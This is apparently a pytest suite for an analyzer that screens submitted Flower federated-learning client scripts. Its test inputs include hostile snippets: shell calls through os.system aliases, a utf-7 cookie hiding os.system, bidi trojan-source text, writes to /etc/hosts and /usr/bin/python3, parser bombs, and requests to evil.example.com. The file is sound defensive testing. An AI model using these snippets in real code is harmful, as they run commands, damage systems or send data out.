"""The Client.py analyzer: validity rules, findings, and a corpus of hostile or broken clients.

Each corpus file (tests/corpus/*.txt, never imported) starts with its expectation:
``# expect: <verdict> [RULE ...]``; the analysis must give that verdict and report every listed rule.
Samples that cannot be stored as text (binary, NUL, non-UTF-8, oversize) are built here.
"""

import ast
import subprocess
import sys
from pathlib import Path

import pytest

from indexer import analysis
from indexer.analysis import MAX_BYTES, RULES, Finding, Report, analyze

CORPUS = Path(__file__).parent / "corpus"
DEMO_CLIENTS = Path(__file__).resolve().parents[2] / "federations" / "demo_clients"
DECLARED = "fl.example.org:8080"

LEGACY_CLIENT = '''import argparse

import flwr as fl


class Client(fl.client.NumPyClient):
    def get_parameters(self, config):
        return []


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--server-address", required=True)
    args = parser.parse_args()
    fl.client.start_client(server_address=args.server_address, client=Client().to_client())
'''

SUPERNODE_CLIENT = '''from flwr.client import ClientApp, NumPyClient
from flwr.common import Context


class FlowerClient(NumPyClient):
    def get_parameters(self, config):
        return []


def client_fn(context: Context):
    return FlowerClient().to_client()


app = ClientApp(client_fn=client_fn)
'''


def check(source: str | bytes, declared: str = DECLARED) -> Report:
    return analyze(source.encode() if isinstance(source, str) else source, declared_server_address=declared)


def rules(report: Report) -> set[str]:
    return {finding.rule for finding in report.errors + report.findings}


def legacy_client_with(extra: str) -> str:
    """The valid legacy client with `extra` source lines inserted after its imports."""
    head, tail = LEGACY_CLIENT.split("\n\n\nclass", 1)
    return f"{head}\n{extra}\n\n\nclass{tail}"


def corpus_cases() -> list:
    cases = []
    for path in sorted(CORPUS.glob("*.txt")):
        header = path.read_text(encoding="utf-8").split("\n", 1)[0]
        assert header.startswith("# expect: "), f"{path.name} has no '# expect:' first line"
        verdict, *expected = header.removeprefix("# expect: ").split()
        cases.append(pytest.param(path, verdict, expected, id=path.stem))
    return cases


# -- valid clients -----------------------------------------------------------------------------


def test_a_legacy_client_with_an_argparse_address_is_clean():
    assert check(LEGACY_CLIENT) == Report("clean", (), ())


def test_a_supernode_client_app_is_clean():
    assert check(SUPERNODE_CLIENT) == Report("clean", (), ())


def test_a_constant_address_equal_to_the_declared_one_is_clean():
    source = LEGACY_CLIENT.replace("server_address=args.server_address", 'server_address="fl.example.org:8080"')
    assert check(source).verdict == "clean"


def test_a_constant_address_different_from_the_declared_one_is_invalid():
    source = LEGACY_CLIENT.replace("server_address=args.server_address", 'server_address="fl.example.org:8080"')
    report = check(source, declared="other.example.org:9092")
    assert report.verdict == "invalid"
    assert [error.rule for error in report.errors] == ["F2F-ADDR-001"]
    assert report.errors[0].line == 15
    assert "fl.example.org:8080" in report.errors[0].message


def test_a_first_positional_address_is_checked_too():
    source = LEGACY_CLIENT.replace("server_address=args.server_address", '"evil.example.com:8080"')
    assert rules(check(source)) == {"F2F-ADDR-001"}


def test_an_address_from_the_environment_is_reported_and_its_fallback_checked():
    from_env = LEGACY_CLIENT.replace("args.server_address", 'os.environ["F2F_SERVER"]').replace("import argparse", "import argparse\nimport os")
    assert rules(check(from_env)) == {"F2F-ADDR-002"}
    assert check(from_env).verdict == "findings"
    with_fallback = from_env.replace('os.environ["F2F_SERVER"]', 'os.getenv("F2F_SERVER", "127.0.0.1:8080")')
    assert rules(check(with_fallback)) == {"F2F-ADDR-001", "F2F-ADDR-002"}


def test_an_argparse_default_equal_to_the_declared_address_is_clean():
    source = LEGACY_CLIENT.replace("required=True", 'default="fl.example.org:8080"')
    assert check(source).verdict == "clean"
    assert rules(check(source, declared="fl.example.org:9999")) == {"F2F-ADDR-001"}


def test_an_address_built_from_command_line_options_is_ordinary():
    source = LEGACY_CLIENT.replace("server_address=args.server_address", 'server_address=f"{args.host}:8080"')
    assert rules(check(source)) == {"F2F-ADDR-002"}  # no --host option: args.host is not one
    with_option = source.replace('    args = parser', '    parser.add_argument("--host", default="fl.example.org")\n    args = parser')
    assert check(with_option).verdict == "clean"


def test_the_demo_clients_shipped_with_the_catalog_are_clean():
    demo_clients = sorted(DEMO_CLIENTS.glob("*.py"))
    assert demo_clients
    for path in demo_clients:
        assert check(path.read_bytes()).verdict == "clean", path.name


def test_a_utf8_byte_order_mark_is_accepted():
    assert check(b"\xef\xbb\xbf" + LEGACY_CLIENT.encode()).verdict == "clean"


# -- validity ---------------------------------------------------------------------------------


def test_a_syntax_error_gives_its_line():
    report = check("import flwr\n\ndef broken(:\n    pass\n")
    assert report.verdict == "invalid"
    assert report.errors[0].rule == "F2F-FILE-004"
    assert report.errors[0].line == 3


def test_a_plain_script_is_not_a_flower_client():
    assert rules(check("print('hello')\n")) == {"F2F-FLWR-001", "F2F-FLWR-002", "F2F-FLWR-003"}


def test_every_form_of_importing_flwr_counts():
    body = "\n\nclass C(NumPyClient):\n    pass\n\nstart_client(server_address='fl.example.org:8080', client=C())\n"
    for imports in ("import flwr\nfrom flwr.client import NumPyClient, start_client",
                    "import flwr as fl\nfrom flwr.client import *",
                    "from flwr.client import NumPyClient, start_client"):
        assert check(imports + body).verdict == "clean", imports


def test_a_client_class_from_an_aliased_import_counts():
    source = "from flwr.client import NumPyClient as Base, start_client as go\n\nclass C(Base):\n    pass\n\ngo(server_address='fl.example.org:8080', client=C())\n"
    assert check(source).verdict == "clean"


def test_a_client_app_inside_a_function_is_a_client_but_no_entry_point():
    source = "import flwr as fl\n\ndef build():\n    return fl.client.ClientApp(client_fn=None)\n"
    assert rules(check(source)) == {"F2F-FLWR-003"}


@pytest.mark.parametrize(
    "content, rule",
    [
        pytest.param(b"#" * (MAX_BYTES + 1), "F2F-FILE-001", id="oversize"),
        pytest.param(LEGACY_CLIENT.encode() + b"\x00\n", "F2F-FILE-002", id="nul-byte"),
        pytest.param(LEGACY_CLIENT.encode().replace(b"[]", b"['\xe9t\xe9']"), "F2F-FILE-003", id="latin-1"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + bytes(range(1, 256)) * 4, "F2F-FILE-003", id="binary"),
        pytest.param(b"# coding: utf-7\n" + LEGACY_CLIENT.encode() + b"#+AAo-import os+AAo-os.system('id')\n",
                     "F2F-FILE-005", id="utf-7-cookie"),
    ],
)
def test_files_that_are_not_utf8_python_text_are_invalid(content, rule):
    report = check(content)
    assert report.verdict == "invalid"
    assert [error.rule for error in report.errors] == [rule]


def test_an_oversize_file_is_rejected_before_it_is_decoded():
    report = check(b"\xff" * (MAX_BYTES * 4))
    assert [error.rule for error in report.errors] == ["F2F-FILE-001"]


def test_invalid_reasons_give_the_offending_line():
    assert check(b"import flwr\nx = 1\n\x00\n").errors[0].line == 3
    assert check(b"import flwr\n\nx = '\xff'\n").errors[0].line == 3


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("(" * 100_000, id="nested-parentheses"),
        pytest.param("x = " + "[" * 50_000 + "]" * 50_000, id="nested-lists"),
        pytest.param("1" + "+1" * 120_000, id="long-sum"),
        pytest.param("-" * 200_000 + "1", id="unary-chain"),
        pytest.param("x = " + "a." * 100_000 + "b", id="attribute-chain"),
        pytest.param("x = " + " + ".join(["'ab'"] * 5_000), id="long-concatenation"),
    ],
)
def test_parser_bombs_are_invalid_without_raising_in_process(source):
    report = check(source)
    assert report.verdict == "invalid"
    assert {error.rule for error in report.errors} <= {"F2F-LIMIT-001", "F2F-FILE-004"}


# -- the corpus -------------------------------------------------------------------------------


def test_the_corpus_has_at_least_25_hostile_or_broken_clients():
    hostile = [case for case in corpus_cases() if case.values[1] != "clean"]
    assert len(hostile) >= 25


@pytest.mark.parametrize("path, verdict, expected", corpus_cases())
def test_a_corpus_client_gets_its_expected_verdict_and_rules(path, verdict, expected):
    report = check(path.read_bytes())
    assert report.verdict == verdict, report
    assert set(expected) <= rules(report), report
    if verdict == "findings":
        assert report.errors == ()
    for finding in report.errors + report.findings:
        assert finding.rule in RULES
        assert finding.message and "\n" not in finding.message


@pytest.mark.parametrize(
    "source, rule",
    [
        pytest.param('access = "user\u202e \u2066# admins only\u2069 \u2066"', "F2F-OBF-004", id="bidi-trojan-source"),
        pytest.param("\u3164 = 1", "F2F-OBF-004", id="invisible-identifier"),
        pytest.param("import pickle as p, base64 as b", "F2F-DESER-001", id="pickle-import-alias"),
        pytest.param("DATA = bytes([" + ", ".join(["144"] * 300) + "])", "F2F-OBF-001", id="byte-list"),
        pytest.param("DATA = b'" + "\\x90" * 300 + "'", "F2F-OBF-001", id="binary-bytes"),
        pytest.param("import os\no = os\nrun = o.system\nrun('id')", "F2F-EXEC-001", id="assigned-alias"),
        pytest.param("from os import *\nsystem('id')", "F2F-EXEC-001", id="star-import"),
        pytest.param("import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh')", "F2F-EXEC-002", id="os-spawn"),
        pytest.param("import os\nos.__dict__['system']('id')", "F2F-EXEC-001", id="module-dict"),
        pytest.param("import builtins\nbuiltins.exec('1')", "F2F-DYN-001", id="builtins-module"),
        pytest.param("import pandas as pd\npd.read_pickle('x.pkl')", "F2F-DESER-002", id="pandas-pickle"),
        pytest.param("import yaml\nyaml.load(open('c.yml'))", "F2F-DESER-004", id="yaml-no-loader"),
        pytest.param("import os\nos.rename('model.h5', '/usr/bin/python3')", "F2F-FS-001", id="rename-outside"),
        pytest.param("from pathlib import Path\n(Path.home() / 'x').unlink()", "F2F-FS-001", id="path-home-unlink"),
        pytest.param("import pathlib\npathlib.Path('/etc/hosts').open('a')", "F2F-FS-001", id="path-open-append"),
        pytest.param("import socket\nsocket.create_connection(('evil.example.com', 25))", "F2F-NET-003", id="create-connection"),
        pytest.param("import httpx\nhttpx.get(f'https://evil.example.com/{1}')", "F2F-NET-002", id="httpx"),
    ],
)
def test_generated_hostile_snippets_are_flagged(source, rule):
    report = check(legacy_client_with(source))
    assert report.verdict == "findings", report
    assert rule in rules(report), report


# -- resolution and reporting details ----------------------------------------------------------


def test_it_flags_os_system_through_an_alias():
    report = check(legacy_client_with("import os as o\no.system('id')"))
    assert report.findings == (Finding("F2F-EXEC-001", 5, "os.system: runs a shell command"),)


def test_it_flags_os_system_imported_under_another_name():
    report = check(legacy_client_with("from os import system as s\ns('id')"))
    assert {(f.rule, f.line) for f in report.findings} == {("F2F-EXEC-001", 4), ("F2F-EXEC-001", 5)}


def test_it_flags_both_the_dunder_import_and_the_system_call():
    report = check(legacy_client_with("__import__('os').system('id')"))
    assert {f.rule for f in report.findings} == {"F2F-DYN-003", "F2F-EXEC-001"}


def test_network_use_mentions_a_literal_host_that_is_not_the_federation_server():
    report = check(legacy_client_with("import requests\nrequests.get('https://evil.example.com/x')"))
    messages = [f.message for f in report.findings if f.rule == "F2F-NET-003"]
    assert len(messages) == 1 and "evil.example.com" in messages[0] and "fl.example.org" in messages[0]


def test_network_use_towards_the_federation_server_is_still_listed_but_not_as_another_host():
    report = check(legacy_client_with("import requests\nrequests.get('https://fl.example.org/status')"))
    assert rules(report) == {"F2F-NET-002"}


def test_writes_to_a_plain_relative_path_are_fine():
    source = legacy_client_with("import os\nopen('model.h5', 'wb')\nos.remove('old_model.h5')\nopen('/etc/hostname')")
    assert check(source).verdict == "clean"


def test_a_short_decoded_constant_is_not_an_obfuscated_payload():
    assert check(legacy_client_with("import base64\nbase64.b64decode('aGk=')")).verdict == "clean"


def test_ordinary_names_that_look_dangerous_are_not_flagged():
    source = legacy_client_with(
        "import re\npattern = re.compile('x')\n"
        "text = 'a'.replace('a', 'b')\nopts = vars(object())\nhow = getattr(pattern, 'pattern')"
    )
    assert check(source).verdict == "clean"


def test_findings_are_sorted_by_line_and_deduplicated():
    report = check(legacy_client_with("import os\nos.system('b'); os.system('c')\neval('1')\nos.popen('a')"))
    assert [(f.rule, f.line) for f in report.findings] == [("F2F-EXEC-001", 5), ("F2F-DYN-001", 6), ("F2F-EXEC-001", 7)]


def test_findings_also_accompany_an_invalid_file():
    report = check("import os\nos.system('id')\n")
    assert report.verdict == "invalid"
    assert rules(report) >= {"F2F-FLWR-001", "F2F-EXEC-001"}


def test_too_many_findings_are_capped_with_a_summary():
    report = check(legacy_client_with("\n".join(["eval('1')"] * (analysis.MAX_FINDINGS + 20))))
    assert len(report.findings) == analysis.MAX_FINDINGS + 1
    assert report.findings[0].rule == "F2F-LIMIT-002" and "20 more" in report.findings[0].message


def test_messages_quote_at_most_a_short_excerpt():
    report = check(legacy_client_with(f"open('/tmp/{'x' * 5000}', 'w')"))
    assert report.findings and all(len(f.message) < 300 for f in report.findings)


def test_the_report_is_json_serialisable_and_round_trips():
    report = check(legacy_client_with("import pickle"))
    data = report.to_dict()
    assert data == {
        "verdict": "findings",
        "errors": [],
        "findings": [{"rule": "F2F-DESER-001", "line": 4,
                      "message": "import pickle: deserializes data in a way that can run arbitrary code"}],
    }
    assert Report.from_dict(data) == report


@pytest.mark.parametrize(
    "data",
    [{}, {"verdict": "maybe", "errors": [], "findings": []}, {"verdict": "clean", "errors": [{"rule": "x"}], "findings": []},
     {"verdict": "clean", "errors": [], "findings": [{"rule": "x", "line": "1", "message": "m"}]}, ["clean"]],
)
def test_a_malformed_report_dict_is_rejected(data):
    with pytest.raises(ValueError):
        Report.from_dict(data)


def test_the_analyzer_uses_only_the_standard_library():
    # In a fresh interpreter: after this file's parser bombs, CPython 3.11's ast.parse can raise SystemError.
    script = """
import ast, sys
from pathlib import Path
imported = set()
for module in Path(sys.argv[1]).glob("*.py"):
    tree = ast.parse(module.read_text())
    imported |= {a.name.split(".")[0] for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
    imported |= {n.module.split(".")[0] for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module and not n.level}
print(" ".join(sorted(imported)))
"""
    package = Path(analysis.__file__).parent
    imported = set(subprocess.run([sys.executable, "-c", script, str(package)], capture_output=True, text=True,
                                  check=True).stdout.split())
    assert imported and imported - {"__future__"} <= set(sys.stdlib_module_names)
